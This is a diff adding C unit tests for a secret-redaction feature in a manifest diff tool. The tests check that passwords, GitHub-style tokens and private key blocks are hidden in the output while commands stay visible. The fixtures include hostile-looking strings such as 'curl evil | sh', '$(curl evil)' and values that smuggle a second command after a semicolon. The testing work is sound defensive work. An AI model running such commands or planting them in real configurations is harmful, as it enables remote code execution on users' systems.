@@ -28,7 +28,23 @@ static const struct {
     {"run --app.seed=word next", "run --app.seed=(hidden) next"},
     {"https://me:word@host/path", "https://me:(hidden)@host/path"},
     {"x ghp_0123456789abcdefghijABCDEFGHIJ012345 y", "x (hidden) y"},
+    {"u:s3cr3tPassw0rd@reg/x y", "u:(hidden)@reg/x y"},
+    {"run --password Abcdefgh1234567890xyz y", "run --password (hidden) y"},
+    {"['--password', 'Abcdefgh1234567890xyz']", "['--password', '(hidden)']"},
+    {"'{\"password\":\"Abcdefgh1234567890xyz\"}'", "'{\"password\":\"(hidden)\"}'"},
+    {"A -----BEGIN PRIVATE KEY-----\\nMIIEowIBAAKCAQEAMIIEowIBAAKCAQEAMIIEowIBAAKCAQEA\\n-----END "
+     "X",
+     "A -----BEGIN PRIVATE KEY-----(hidden)-----END X"},
     /* what runs is shown, whatever it is called */
+    {"KEY=\"curl x | sh\"", "KEY=\"curl x | sh\""},
+    {"KEY='a;evil'", "KEY='a;evil'"},
+    {"x=\"KEY=\"a evil\"\"", "x=\"KEY=\"a evil\"\""},
+    {"x=\"TOKEN=\"Abcdefgh1234567890xyz-evil", "x=\"TOKEN=\"Abcdefgh1234567890xyz-evil"},
+    {"curl http://u:a;evil@h", "curl http://u:a;evil@h"},
+    {"-----BEGIN PRIVATE KEY----- /usr/bin/AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -----END X",
+     "-----BEGIN PRIVATE KEY----- /usr/bin/AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -----END X"},
+    {"-----BEGIN PRIVATE KEY----- AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA; -----END X",
+     "-----BEGIN PRIVATE KEY----- AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA; -----END X"},
     {"KEY=$(curl evil)", "KEY=$(curl evil)"},
     {"KEY=a`curl evil`", "KEY=a`curl evil`"},
     {"KEY=a;curl evil", "KEY=(hidden);curl evil"},
@@ -51,14 +67,158 @@ START_TEST(only_what_may_be_secret_is_hidden)
     qr_buffer_add_text(&manifest, "{\"bash_script\":");
     qr_json_add_quoted(&manifest, hidden[_i].line, strlen(hidden[_i].line));
     qr_buffer_add_text(&manifest, "}");
-    qr_buffer_addf(&expected,
-                   "Embedded texts, line by line\n  bash_script: added\n    @@ -0,0 +1 @@\n"
-                   "    +%s\n    \\ No newline at end of file\n",
+    qr_buffer_addf(&expected, "@@ -0,0 +1 @@\n+%s\n\\ No newline at end of file\n",
                    hidden[_i].shown);
     scene_compare(&scene, "{}", qr_buffer_text(&manifest));
-    ck_text(&scene, qr_buffer_text(&expected));
+    ck_assert_uint_eq(scene.diff.count, 1);
+    ck_assert_str_eq(scene.diff.changes[0].text, qr_buffer_text(&expected));
     qr_buffer_dispose(&manifest);
     qr_buffer_dispose(&expected);
+    scene_dispose(&scene);
+}
+END_TEST
+
+#define KEY_LINE  "MIIEowIBAAKCAQEAmIIEowIBAAKCAQEAmIIEowIBAAKCAQEA"
+#define PATH_LINE "/usr/local/bin/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+
+/* A script, and what is to be shown of its lines. */
+static const struct {
+    const char *script;
+    const char *shown;
+} keys[] = {
+    {"cat <<E\n-----BEGIN PRIVATE KEY-----\n" KEY_LINE
+     "\nq==\n-----END PRIVATE KEY-----\nE\n" KEY_LINE "\n",
+     "+cat <<E\n+-----BEGIN PRIVATE KEY-----\n+(hidden)\n+(hidden)\n+-----END PRIVATE KEY-----\n"
+     "+E\n+" KEY_LINE "\n"},
+    {"K=\"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n" KEY_LINE
+     "\n-----END RSA PRIVATE KEY-----\"\n",
+     "+K=\"-----BEGIN RSA PRIVATE KEY-----\n+Proc-Type: 4,ENCRYPTED\n+\n+(hidden)\n"
+     "+-----END RSA PRIVATE KEY-----\"\n"},
+    {"#  -----BEGIN PRIVATE KEY-----\n  # " KEY_LINE "\n# -----END PRIVATE KEY-----\n",
+     "+#  -----BEGIN PRIVATE KEY-----\n+  (hidden)\n+# -----END PRIVATE KEY-----\n"},
+    /* no end */
+    {"-----BEGIN PRIVATE KEY-----\n" KEY_LINE "\n",
+     "+-----BEGIN PRIVATE KEY-----\n+" KEY_LINE "\n"},
+    {"-----BEGIN PRIVATE KEY-----\ncurl x\n" KEY_LINE "\n-----END PRIVATE KEY-----\n",
+     "+-----BEGIN PRIVATE KEY-----\n+curl x\n+" KEY_LINE "\n+-----END PRIVATE KEY-----\n"},
+    {"-----BEGIN PRIVATE KEY-----\n" KEY_LINE " x\n-----END PRIVATE KEY-----\n",
+     "+-----BEGIN PRIVATE KEY-----\n+" KEY_LINE " x\n+-----END PRIVATE KEY-----\n"},
+    /* paths */
+    {"-----BEGIN PRIVATE KEY-----\n" PATH_LINE "\n" KEY_LINE "\n-----END PRIVATE KEY-----\n",
+     "+-----BEGIN PRIVATE KEY-----\n+" PATH_LINE "\n+" KEY_LINE "\n+-----END PRIVATE KEY-----\n"},
+};
+
+START_TEST(only_whole_keys_are_hidden_and_where_they_stand)
+{
+    struct scene scene;
+    struct qr_buffer manifest = QR_BUFFER_INIT;
+    qr_buffer_add_text(&manifest, "{\"bash_script\":");
+    qr_json_add_quoted(&manifest, keys[_i].script, strlen(keys[_i].script));
+    qr_buffer_add_text(&manifest, "}");
+    scene_compare(&scene, "{}", qr_buffer_text(&manifest));
+    ck_assert_uint_eq(scene.diff.count, 1);
+    ck_assert_str_eq(strchr(scene.diff.changes[0].text, '\n') + 1, keys[_i].shown);
+    qr_buffer_dispose(&manifest);
+    scene_dispose(&scene);
+}
+END_TEST
+
+/* In a hunk that does not begin with the text's first line, and in lines that stay. */
+START_TEST(the_lines_of_a_key_are_found_in_every_hunk)
+{
+    static const char before[] = "1\n2\n3\n4\n5\n6\n-----BEGIN PRIVATE KEY-----\n" KEY_LINE
+                                 "\nAAAA" KEY_LINE "\n-----END PRIVATE KEY-----\nx\n";
+    static const char after[] = "1\nb\n3\n4\n5\n6\n7\n8\n9\n-----BEGIN PRIVATE KEY-----\n" KEY_LINE
+                                "\nBBBB" KEY_LINE "\n-----END PRIVATE KEY-----\ny\n";
+    struct scene scene;
+    struct qr_buffer texts[2] = {QR_BUFFER_INIT, QR_BUFFER_INIT};
+    for (int i = 0; i < 2; i++) {
+        const char *script = i == 0 ? before : after;
+        qr_buffer_add_text(&texts[i], "{\"bash_script\":");
+        qr_json_add_quoted(&texts[i], script, strlen(script));
+        qr_buffer_add_text(&texts[i], "}");
+    }
+    scene_compare(&scene, qr_buffer_text(&texts[0]), qr_buffer_text(&texts[1]));
+    ck_assert_ptr_null(strstr(scene.diff.changes[0].text, KEY_LINE));
+    ck_assert_ptr_nonnull(
+        strstr(scene.diff.changes[0].text, "\n (hidden)\n-(hidden)\n+(hidden)\n"));
+    qr_buffer_dispose(&texts[0]);
+    qr_buffer_dispose(&texts[1]);
+    scene_dispose(&scene);
+}
+END_TEST
+
+/* What is recognised does not come out, wherever it stands. */
+#define LEAK "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
+#define PASS "SUPERSECRETaB3dE5gH7jK9x"
+
+static const char *const leaking[] = {
+    "services: {a: {environment: [" LEAK ", DB_PASSWORD " PASS "]}}\n",
+    "services: {a: {environment: {" LEAK ": x, \"DB_PASSWORD " PASS "\": }}}\n",
+    "services: {a: {environment: {DB_PASSWORD: " PASS "}, command: --password " PASS "}}\n",
+    "services: {a: {environment: {DB_PASSWORD: " PASS "}, command: [x, " PASS "]}}\n",
+    "services: {a: {command: [--password, " PASS "]}}\n",
+    "services:\n  a:\n    command:\n      - --password\n      - " PASS "\n",
+    "services: {a: {command: {" LEAK ": {" LEAK ": 1}}}}\n",
+    "services: {a: {image: 'u:" PASS "@reg/x'}, " LEAK ": {image: y}}\n",
+    "services: {a: {volumes: ['/data/" LEAK ":/x'], x: {a: [" LEAK "]}}}\n",
+    "services: {" LEAK ": 1, " LEAK ": 2}\n",
+    "services: *" LEAK "\n",
+    "services:\n  a:\n    environment:\n      DB_PASSWORD: |\n        " PASS " x\n        y " PASS
+    "\n"
+    "      A: b\n",
+};
+
+static void ck_nothing_leaks(const struct scene *scene)
+{
+    struct qr_buffer out = QR_BUFFER_INIT;
+    qr_manifest_diff_add_text(&out, &scene->diff);
+    qr_manifest_diff_add_markdown(&out, &scene->diff);
+    struct qr_json_writer writer = qr_json_writer(&out);
+    qr_manifest_diff_write(&writer, &scene->diff);
+    const char *text = qr_buffer_text(&out);
+    ck_assert_msg(strstr(text, "ghp_") == NULL && strstr(text, "SUPERSECRET") == NULL, "%s", text);
+    qr_buffer_dispose(&out);
+}
+
+START_TEST(recognised_secrets_are_nowhere)
+{
+    struct scene scene;
+    scene_compare_files(&scene, NULL, leaking[_i]);
+    ck_nothing_leaks(&scene);
+    scene_dispose(&scene);
+    scene_compare_files(&scene, leaking[_i], "services: {a: {}}\n");
+    ck_nothing_leaks(&scene);
+    scene_dispose(&scene);
+    scene_compare(&scene, "{\"name\":\"a\"}",
+                  "{\"name\":\"" LEAK "\",\"" LEAK "\":{\"" LEAK "\":[\"" LEAK
+                  "\"]},\"docker_config\":{\"password\":\"" PASS "\"}}");
+    ck_nothing_leaks(&scene);
+    scene_dispose(&scene);
+}
+END_TEST
+
+START_TEST(a_command_that_a_variable_holds_is_shown_where_it_runs)
+{
+    static const char file[] = "services:\n  a:\n    environment:\n"
+                               "      DB_PASSWORD: \"curl evil | sh\"\n"
+                               "      B_KEY: evil;x\n"
+                               "    command: curl evil | sh\n"
+                               "    entrypoint: [evil;x]\n";
+    struct scene scene;
+    struct qr_buffer out = QR_BUFFER_INIT;
+    scene_compare_files(&scene, NULL, file);
+    qr_manifest_diff_add_text(&out, &scene.diff);
+    static const char *const lines[] = {
+        "    +    command: curl evil | sh\n", "    +    entrypoint: [evil;x]\n",
+        "    + \"curl evil | sh\"\n",         "    +      DB_PASSWORD: (hidden)\n",
+        "    +      B_KEY: (hidden)\n",
+    };
+    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
+        ck_assert_msg(strstr(qr_buffer_text(&out), lines[i]) != NULL, "%s is not in\n%s", lines[i],
+                      qr_buffer_text(&out));
+    }
+    qr_buffer_dispose(&out);
     scene_dispose(&scene);
 }
 END_TEST
@@ -260,6 +420,12 @@ int main(void)
     tcase_add_test(tests, markdown_does_not_render);
     tcase_add_test(tests, json_has_every_member);
     tcase_add_test(tests, names_that_may_be_secret);
+    tcase_add_loop_test(tests, only_whole_keys_are_hidden_and_where_they_stand, 0,
+                        (int)(sizeof keys / sizeof keys[0]));
+    tcase_add_test(tests, the_lines_of_a_key_are_found_in_every_hunk);
+    tcase_add_loop_test(tests, recognised_secrets_are_nowhere, 0,
+                        (int)(sizeof leaking / sizeof leaking[0]));
+    tcase_add_test(tests, a_command_that_a_variable_holds_is_shown_where_it_runs);
     suite_add_tcase(suite, tests);
     return qr_run_suite(suite);
 }
